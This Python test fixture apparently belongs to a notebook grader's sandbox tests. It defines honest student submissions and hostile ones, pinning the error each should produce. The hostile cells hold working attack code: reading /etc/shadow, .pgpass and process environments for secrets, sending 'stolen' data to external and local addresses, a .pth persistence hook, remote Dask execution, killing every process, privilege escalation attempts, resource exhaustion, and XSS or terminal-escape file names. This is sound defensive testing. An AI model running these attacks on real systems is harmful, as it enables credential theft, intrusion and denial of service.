"""A class of honest and hostile learners, as hostile learners attacked the grader (issue 24), with what each
submission must get.

Each attacker's notebook is the setup and image cells, its attack, and an answer cell. An attack either fails
with the kernel's own words (pinned in `reason`), or leaves no trace (`evidence` in the test), or both; an
attack that tries to carry what it read out through its answer's repr hands over an empty container when it
read nothing. Paths, ports and process ids of the test's machine are filled in by `Targets`.
"""

from __future__ import annotations

import os
import re
from dataclasses import dataclass
from pathlib import Path

from .conftest import IMAGE, RIGHT_Q1, RIGHT_Q7, SETUP, notebook_json

WRONG_Q1 = "image_condense = tf.nn.pool(image_detect, (2, 2), 'AVG', strides=(2, 2), padding='SAME')"
# What the gradebook must never hold: the grader's environment and the teacher's files carry these.
SECRETS = {
    "PGPASSWORD": "pg-SECRET-4c1f",
    "LEARNTOOLS_CV_API_TOKEN": "token-SECRET-9e2a",
}
PGPASS_SECRET = "pgpass-SECRET-77d0"
SOLUTION_SECRET = "solution-SECRET-a1b2"
MARKERS = (*SECRETS.values(), PGPASS_SECRET, SOLUTION_SECRET)
LURKER = "lcv-lurker"
# The 8 spinners of `a_cpu` spin this many seconds of wall time.
SPIN_SECONDS = 6


@dataclass(frozen=True)
class Targets:
    """What the attackers aim at, on this machine."""

    base: Path
    """The teacher's folder: submitted/, the gradebook, feedback/, solutions/, home/."""
    tcp_port: int
    """A TCP listener of the test on the host's 127.0.0.1."""
    udp_port: int
    """A UDP listener of the test on the host's 127.0.0.1."""
    scheduler: str
    """A plain tcp:// Dask scheduler on the host."""
    victim: int
    """A process of the grader's own user, outside the sandbox."""
    pwned: Path
    """A file the Dask attacker would make on the host."""

    @property
    def submitted(self) -> Path:
        return self.base / "submitted"

    @property
    def home(self) -> Path:
        return self.base / "home"

    @property
    def gradebook(self) -> Path:
        return self.base / "gradebook.sqlite"

    @property
    def feedback(self) -> Path:
        return self.base / "feedback"

    @property
    def solution(self) -> Path:
        return self.base / "solutions" / "ex3_maximum_pooling.ipynb"


@dataclass(frozen=True)
class Learner:
    """One submission and what it must get."""

    name: str | bytes
    """The learner's folder name (bytes: a name that is not UTF-8)."""
    cells: tuple[str, ...]
    q1: tuple[str, str | None]
    """q_1's (status, mistake id)."""
    reason: str | re.Pattern[str] = ""
    """The submission's reason: exactly, or matching a pattern."""
    stored_name: str = ""
    """The name the gradebook stores, when it is not `name`."""
    answer: str = ""
    """A cell whose q_1 verdict in a notebook (status, mistake and words) q_1 must get: what an attack that
    carries what it read out through its answer hands over when it read nothing."""

    @property
    def key(self) -> str:
        if self.stored_name:
            return self.stored_name
        assert isinstance(self.name, str)
        return self.name


def learners(t: Targets) -> list[Learner]:
    site = _site_packages()
    spin = SPIN_SECONDS
    return [
        # ---- honest classmates, before, among and after the attackers
        Learner("honest_alice", (RIGHT_Q1,), ("correct", None)),
        Learner("honest_bob", (WRONG_Q1,), ("incorrect", "avg-pooling")),
        Learner("honest_carol", (RIGHT_Q1, RIGHT_Q7), ("correct", None)),
        Learner("zz_honest_last", (RIGHT_Q1,), ("correct", None)),
        # ---- took over the grader
        Learner("a_dask_scan", (
            "import socket\nlistening = []\nfor table in ('/proc/net/tcp', '/proc/net/tcp6'):\n"
            "    for line in open(table).read().splitlines()[1:]:\n        fields = line.split()\n"
            "        if fields[3] == '0A':\n            listening.append(int(fields[1].rsplit(':', 1)[1], 16))\n"
            "reached = []\nfor port in sorted(set(listening)):\n    try:\n"
            "        socket.create_connection(('127.0.0.1', port), timeout=1).close()\n        reached.append(port)\n"
            "    except OSError:\n        pass\n"
            "raise RuntimeError(f'{len(listening)} listening sockets found, {len(reached)} reached')",
            WRONG_Q1), ("incorrect", "avg-pooling"),
            "Cell 3 raised RuntimeError: 0 listening sockets found, 0 reached (line 15)."),
        Learner("a_dask_known", (
            f"from distributed import Client\nclient = Client({t.scheduler!r}, timeout=3)\n"
            f"client.run(lambda: open({str(t.pwned)!r}, 'w').write('pwned'))",
            WRONG_Q1), ("incorrect", "avg-pooling"),
            f"Cell 3 raised OSError: Timed out trying to connect to {t.scheduler} after 3 s (line 2)."),
        Learner("a_pth", (
            f"import os\ntarget = os.path.join({site!r}, 'zz_learntools_cv_pwned.pth')\n"
            "open(target, 'w').write('import os; os.system(\"touch /tmp/pwned\")\\n')",
            RIGHT_Q1), ("correct", None),
            f"Cell 3 raised OSError: [Errno 30] Read-only file system: '{site}/zz_learntools_cv_pwned.pth' (line 3)."),
        Learner("a_lurker", (
            "import os, time, ctypes\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
            f"        ctypes.CDLL(None).prctl(15, b'{LURKER}', 0, 0, 0)\n        time.sleep(3600)\n"
            "    os._exit(0)\ntime.sleep(0.5)",
            RIGHT_Q1), ("correct", None)),
        # ---- read what it should not
        Learner("a_classmates", (
            f"open({str(t.submitted / 'honest_alice' / 'ex3' / 'ex3.ipynb')!r}).read()",
            f"import os\nos.listdir({str(t.submitted)!r})",
            RIGHT_Q1), ("correct", None),
            f"Cell 3 raised FileNotFoundError: [Errno 2] No such file or directory: "
            f"'{t.submitted}/honest_alice/ex3/ex3.ipynb' (line 1); cell 4 raised FileNotFoundError: [Errno 2] No such "
            f"file or directory: '{t.submitted}' (line 2)."),
        Learner("a_secrets", (
            "import os\nloot = {}\nerrors = []\n"
            f"for path in ['/etc/shadow', {str(t.home / '.pgpass')!r}, {str(t.gradebook)!r}, "
            f"{str(t.feedback)!r}, {str(t.solution)!r}, '/root/.bashrc']:\n"
            "    try:\n        loot[path] = os.listdir(path) if os.path.isdir(path) else open(path).read()[:100]\n"
            "    except OSError as e:\n        errors.append(f'{path}: {e.strerror}')\n"
            # whatever of /root is there but the Python installation (which may live under /root)
            "import sys\nfor folder, folders, files in os.walk('/root'):\n"
            "    folders[:] = [f for f in folders if not os.path.join(folder, f).startswith(sys.base_prefix)]\n"
            "    loot.update({os.path.join(folder, f): 'seen' for f in files})\n"
            "image_condense = str(loot)\nraise RuntimeError('; '.join(errors))",),
            ("incorrect", "string"),
            f"Cell 3 raised RuntimeError: /etc/shadow: No such file or directory; {t.home}/.pgpass: No such file or "
            f"directory; {t.gradebook}: No such file or directory; {t.feedback}: No such file or directory; "
            f"{t.solution}: No such file or directory; /root/.bashrc: No such file or directory (line 14).",
            answer="image_condense = '{}'"),
        Learner("a_environ", (
            "import os\nfound = {}\nread = 0\nfor entry in os.listdir('/proc'):\n    if entry.isdigit():\n"
            "        try:\n            text = open(f'/proc/{entry}/environ', 'rb').read().decode('utf-8', 'replace')\n"
            "        except OSError:\n            continue\n        read += 1\n"
            "        for word in text.split('\\0'):\n"
            "            if any(key in word for key in ('PASSWORD', 'TOKEN', 'SECRET')):\n"
            "                found[entry] = word\n"
            "image_condense = str(found)\nraise RuntimeError(f'{read} environ files read, {len(found)} secrets found')",),
            ("incorrect", "string"), "Cell 3 raised RuntimeError: 1 environ files read, 0 secrets found (line 15).",
            answer="image_condense = '{}'"),
        Learner("a_tcp", (
            f"import socket\nsocket.create_connection(('127.0.0.1', {t.tcp_port}), timeout=3).sendall(b'stolen')",
            "import socket\nsocket.create_connection(('192.0.2.1', 80), timeout=3)",
            RIGHT_Q1), ("correct", None),
            "Cell 3 raised ConnectionRefusedError: [Errno 111] Connection refused (line 2); cell 4 raised OSError: "
            "[Errno 101] Network is unreachable (line 2)."),
        Learner("a_udp", (
            "import socket\nsock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
            f"sock.sendto(b'stolen', ('127.0.0.1', {t.udp_port}))\nsock.sendto(b'stolen', ('192.0.2.1', 53))",
            RIGHT_Q1), ("correct", None),
            "Cell 3 raised OSError: [Errno 101] Network is unreachable (line 4)."),
        # ---- signals and ptrace against processes outside: the grader's own user's, and every pid there is
        Learner("a_signal", (
            f"import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
            f"if libc.ptrace(16, {t.victim}, 0, 0) != 0:\n"
            "    raise OSError(ctypes.get_errno(), 'ptrace ' + os.strerror(ctypes.get_errno()))",
            # every pid but its own threads' (signalling one of them would end its own process)
            f"import os, signal\nfor pid in range(1, 70000):\n    if not os.path.exists(f'/proc/self/task/{{pid}}'):\n"
            "        try:\n            os.kill(pid, signal.SIGKILL)\n        except OSError:\n            pass\n"
            f"os.kill({t.victim}, signal.SIGKILL)",
            "import os, signal\nos.kill(-1, signal.SIGKILL)",
            RIGHT_Q1), ("correct", None),
            "Cell 3 raised ProcessLookupError: [Errno 3] ptrace No such process (line 4); cell 4 raised ProcessLookupError: "
            "[Errno 3] No such process (line 8); cell 5 raised ProcessLookupError: [Errno 3] No such process "
            "(line 2)."),
        # ---- privileges: capabilities, no_new_privs, a user namespace of its own, a mount, root
        Learner("a_privileges", (
            "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
            "status = dict(line.split(':\\t', 1) for line in open('/proc/self/status').read().splitlines() "
            "if ':\\t' in line)\n"
            "held = {k: status[k] for k in ('CapInh', 'CapPrm', 'CapEff', 'CapBnd', 'CapAmb') if int(status[k], 16)}\n"
            "if libc.unshare(0x10000000) == 0:\n    held['unshare'] = 'a user namespace'\n"
            "if libc.mount(b'tmpfs', b'/usr', b'tmpfs', 0, None) == 0:\n    held['mount'] = 'a tmpfs on /usr'\n"
            "raise RuntimeError(f\"no_new_privs {status['NoNewPrivs']}; held: {held}\")",
            "import os\nos.setuid(0)",
            RIGHT_Q1), ("correct", None),
            # (root is not even a user id of its namespace)
            "Cell 3 raised RuntimeError: no_new_privs 1; held: {} (line 9); cell 4 raised OSError: [Errno 22] Invalid "
            "argument (line 2)."),
        # ---- broke classmates' grades
        Learner("a_surrogate", (
            "raise ValueError('\\ud800 \\x00 \\x1b[2J ' + 'z' * 10_000_000)",
            "def max_pool_2x2(feature_map):\n    raise ValueError('\\ud800 \\x00 \\x1b[2J ' + 'z' * 10_000_000)",
            RIGHT_Q1), ("correct", None),
            "Cell 3 raised ValueError: \\ud800 \\x00 \\x1b[2J " + "z" * 1991 + " (line 1)."),
        Learner("a_deep", (
            "import os\nos.chdir('/tmp')\nfor i in range(3000):\n    os.mkdir('d')\n    os.chdir('d')\n"
            "os.chdir('/sandbox')",
            "for i in range(300_000):\n    open(f'f{i}', 'w').close()",
            "block = b'x' * (32 * 1024 * 1024)\nfor i in range(20):\n    open(f'/dev/shm/big{i}', 'wb').write(block)",
            "for i in range(6):\n    open(f'/tmp/leftover{i}', 'wb').write(b'y' * (32 * 1024 * 1024))\n"
            "open('/dev/shm/leftover', 'w').write('left for the next one')",
            RIGHT_Q1), ("correct", None),
            re.compile(r"Cell 4 raised OSError: \[Errno 28\] No space left on device: 'f\d+' \(line 2\); cell 5 "
                       r"raised OSError: \[Errno 28\] No space left on device \(line 3\)\.")),
        Learner("b_later", (
            # What an earlier submission left. (A Python installation under /tmp, a checkout cloned there, has
            # its read-only view mounted inside the private /tmp: that folder is no leftover.)
            "import os, sys\nseen = {place: os.listdir(place) for place in ('/tmp', '/dev/shm', '/sandbox')}\n"
            "views = {p.split('/')[2] for p in sys.path if p.startswith('/tmp/')}\n"
            "seen['/tmp'] = [n for n in seen['/tmp'] if n not in views]\n"
            "image_condense = str({place: names for place, names in seen.items() if names})",),
            ("incorrect", "string"), answer="image_condense = '{}'"),
        Learner("a_cpu", (spinners(8, spin), RIGHT_Q1), ("correct", None),
                re.compile(rf"Cell 3 raised RuntimeError: 8 spinners used [0-9.]+ s of CPU in {spin} s; they were "
                           r"stopped \d+ times \(line 24\)\.")),
        Learner("a_memory", (
            "import os, time\nfor _ in range(4):\n    if os.fork() == 0:\n"
            "        hog = b'x' * (400 * 1024 * 1024)\n        time.sleep(30)\n        os._exit(0)\ntime.sleep(30)",
            RIGHT_Q1), ("correct", None),
            "Cell 3 was skipped because its processes together used more than 1 GB of memory, and it was stopped."),
        # ---- names that fooled the teacher's tools, and names that collided
        Learner("=SUM(2,5)<img src=x onerror=alert(1)>", (RIGHT_Q1,), ("correct", None)),
        Learner("\x1b[2J\x1b[31mred", (RIGHT_Q1,), ("correct", None), stored_name="\\x1b[2J\\x1b[31mred"),
        Learner("x0_victim", (RIGHT_Q1,), ("correct", None)),
        Learner("x0~victim", (WRONG_Q1,), ("incorrect", "avg-pooling")),
        Learner(b"bad\xff", (RIGHT_Q1,), ("correct", None), stored_name="bad\\udcff"),
    ]


def spinners(count: int, seconds: float) -> str:
    """A cell that runs `count` CPU-bound processes for `seconds` of wall time, then says how much CPU they got
    and how many times someone stopped and continued them (the init of the sandbox does, to keep the submission
    to its cores: a continued child stays reported until its parent waits for it, a stopped one may not)."""
    return (
        f"import os, time\nends = time.monotonic() + {seconds}\nreaders = []\nchildren = set()\n"
        f"for _ in range({count}):\n    r, w = os.pipe()\n    pid = os.fork()\n    if pid == 0:\n"
        "        while time.monotonic() < ends:\n            pass\n"
        "        os.write(w, str(time.process_time()).encode())\n        os._exit(0)\n"
        "    os.close(w)\n    readers.append(r)\n    children.add(pid)\nstops = 0\nwhile children:\n"
        "    pid, status = os.waitpid(-1, os.WUNTRACED | os.WCONTINUED)\n    if os.WIFCONTINUED(status):\n"
        "        stops += 1\n    elif not os.WIFSTOPPED(status):\n        children.discard(pid)\n"
        "total = sum(float(os.read(r, 64)) for r in readers)\n"
        f"raise RuntimeError(f'{count} spinners used {{total:.1f}} s of CPU in {seconds} s; they were stopped "
        "{stops} times')"
    )


def _site_packages() -> str:
    import site

    return site.getsitepackages()[0]


def write_class(t: Targets, owner: int) -> list[Learner]:
    """The class under `t.submitted` (nbgrader layout), the teacher's files, all owned by `owner`."""
    everyone = learners(t)
    for learner in everyone:
        folder = os.path.join(os.fsencode(t.submitted), os.fsencode(learner.name), b"ex3")
        os.makedirs(folder)
        with open(os.path.join(folder, b"ex3.ipynb"), "w") as f:
            f.write(notebook_json([SETUP, IMAGE, *learner.cells]))
    t.home.mkdir(mode=0o700)
    (t.home / ".pgpass").write_text(f"db.example:5432:grades:teacher:{PGPASS_SECRET}\n")
    (t.home / ".pgpass").chmod(0o600)
    t.solution.parent.mkdir()
    t.solution.write_text(notebook_json([SETUP, IMAGE, RIGHT_Q1, f"# {SOLUTION_SECRET}"]))
    for folder, dirs, files in os.walk(t.base):
        for name in (folder, *(os.path.join(folder, d) for d in dirs), *(os.path.join(folder, f) for f in files)):
            os.chown(name, owner, owner)
    return everyone
